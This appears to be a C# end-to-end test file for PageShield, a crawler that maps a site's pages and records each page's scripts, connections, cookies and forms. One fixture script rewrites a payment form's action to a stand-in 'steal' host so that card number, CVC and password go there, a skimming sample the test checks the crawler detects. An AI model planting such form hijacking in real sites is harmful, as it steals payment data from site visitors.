using PageShield.Crawls;
using PageShield.Crawls.Captures;

namespace PageShield.EndToEndTests.Crawls;

public sealed class SiteDiscoveryTests(ChromiumFixture chromium) : IAsyncLifetime
{
    private FixtureSite _site = null!; // set before each test

    public async ValueTask InitializeAsync() => _site = await FixtureSite.StartAsync();

    public ValueTask DisposeAsync() => _site.DisposeAsync();

    [Fact]
    public async Task Pages_come_from_start_urls_sitemaps_and_safe_links_within_the_limit()
    {
        _site.Serve("shop.localhost/robots.txt", "text/plain", "User-agent: *\nDisallow: /private\nSitemap: http://shop.localhost:PORT/maps.xml")
            .Serve("shop.localhost/maps.xml", "text/xml",
                "<sitemapindex><sitemap><loc>http://shop.localhost:PORT/map.xml</loc></sitemap></sitemapindex>")
            .Serve("shop.localhost/map.xml", "text/xml",
                "<urlset><url><loc>http://shop.localhost:PORT/from-map</loc></url><url><loc>http://other.localhost:PORT/</loc></url></urlset>")
            .Html("shop.localhost/", """
                <a href="/linked#part">l</a><a href="/linked">again</a><a href="/private/page">p</a><a href="/account/logout">out</a>
                <a href="/unsubscribe?id=1">u</a><a href="/cart?add-to-cart=5">add</a><a href="http://other.localhost:PORT/">o</a><a href="/manual.pdf">pdf</a>
                """)
            .Html("shop.localhost/linked", "linked").Html("shop.localhost/from-map", "mapped");
        var plan = _site.Plan(["shop.localhost/"], "other.localhost") with { FollowLinks = true, UseSitemap = true };

        var captures = await chromium.Crawler.CrawlAllAsync(plan);

        Assert.Equal(
            [_site.Url("shop.localhost/"), _site.Url("shop.localhost/from-map"), _site.Url("shop.localhost/linked")],
            captures.Select(static capture => capture.Url).Order(StringComparer.Ordinal));
        Assert.DoesNotContain(_site.Log,
            static entry => entry.Target.Contains("logout", StringComparison.Ordinal) || entry.Target.StartsWith("other", StringComparison.Ordinal));
    }

    [Fact]
    public async Task The_page_limit_holds_and_finished_pages_are_not_visited_again()
    {
        for (var number = 0; number < 10; number++) _site.Html($"shop.localhost/p{number}", $"<a href=/p{number + 1}>next</a>");
        var plan = _site.Plan(["shop.localhost/p0"]) with
        {
            FollowLinks = true,
            PageLimit = 4,
            AlreadyVisited = new HashSet<string> { _site.Url("shop.localhost/p2") },
        };

        var captures = await chromium.Crawler.CrawlAllAsync(plan);

        Assert.Equal([_site.Url("shop.localhost/p0"), _site.Url("shop.localhost/p1")],
            captures.Select(static capture => capture.Url).Order(StringComparer.Ordinal));
    }

    [Fact]
    public async Task What_a_page_did_is_in_its_capture()
    {
        _site.Html("shop.localhost/", """
            <title>Shop</title><meta http-equiv="Content-Security-Policy" content="img-src *">
            <script src="http://cdn.localhost:PORT/tag.js"></script>
            <form id="pay" action="/pay" method="post"><label for="n">Card number</label><input id="n" name="a1"><input name="cvc"><input type="password" name="pw"></form>
            """, ("X-Frame-Options", "DENY"), ("Set-Cookie", "session=1; HttpOnly; Path=/"))
            .Script("cdn.localhost/tag.js", """
            document.cookie = 'tracker=1; path=/';
            fetch('http://cdn.localhost:PORT/api?x=1').catch(() => {});
            navigator.sendBeacon('http://cdn.localhost:PORT/beacon', 'hello');
            new Image().src = 'http://cdn.localhost:PORT/pixel.png';
            new EventSource('http://cdn.localhost:PORT/events');
            new RTCPeerConnection({ iceServers: [{ urls: 'stun:stun.cdn.localhost:3478' }] });
            console.error('something broke');
            addEventListener('load', () => { document.getElementById('pay').action = 'http://cdn.localhost:PORT/steal'; });
            """);

        var capture = await chromium.Crawler.CrawlOneAsync(_site.Plan(["shop.localhost/"], "cdn.localhost"));

        Assert.Equal((PageOutcome.Ok, "Shop", 200), (capture.Outcome, capture.Title, capture.Status));
        Assert.Equal("DENY", capture.Headers["x-frame-options"]);
        Assert.Equal([new MetaPolicy("content-security-policy", "img-src *")], capture.MetaPolicies);
        var tag = Assert.Single(capture.Scripts, static script => script.Kind == ScriptKind.External);
        Assert.All(
            new[] { ConnectionType.Fetch, ConnectionType.Beacon, ConnectionType.Image, ConnectionType.Eventsource, ConnectionType.Webrtc },
            type => Assert.Contains(capture.Connections, connection => connection.Type == type && connection.InitiatorScript == tag.Id));
        Assert.Contains(capture.Cookies, static cookie => cookie is { Name: "session", HttpOnly: true, SetBy: "header" });
        Assert.Contains(capture.Cookies, cookie => cookie.Name == "tracker" && cookie.SetBy == tag.Url);
        var form = Assert.Single(capture.Forms);
        Assert.Equal((_site.Url("cdn.localhost/steal"), _site.Url("shop.localhost/pay"), "POST"), (form.Action, form.ServedAction, form.Method));
        Assert.Equal(["cc-number", "cc-csc", "current-password"], form.Fields.Select(static field => field.Purpose));
        Assert.Contains(capture.ConsoleErrors, static error => error.Contains("something broke", StringComparison.Ordinal));
        Assert.NotNull(capture.DomSha256);
        Assert.Equal([0xFF, 0xD8], capture.Screenshot![..2]);
    }
}
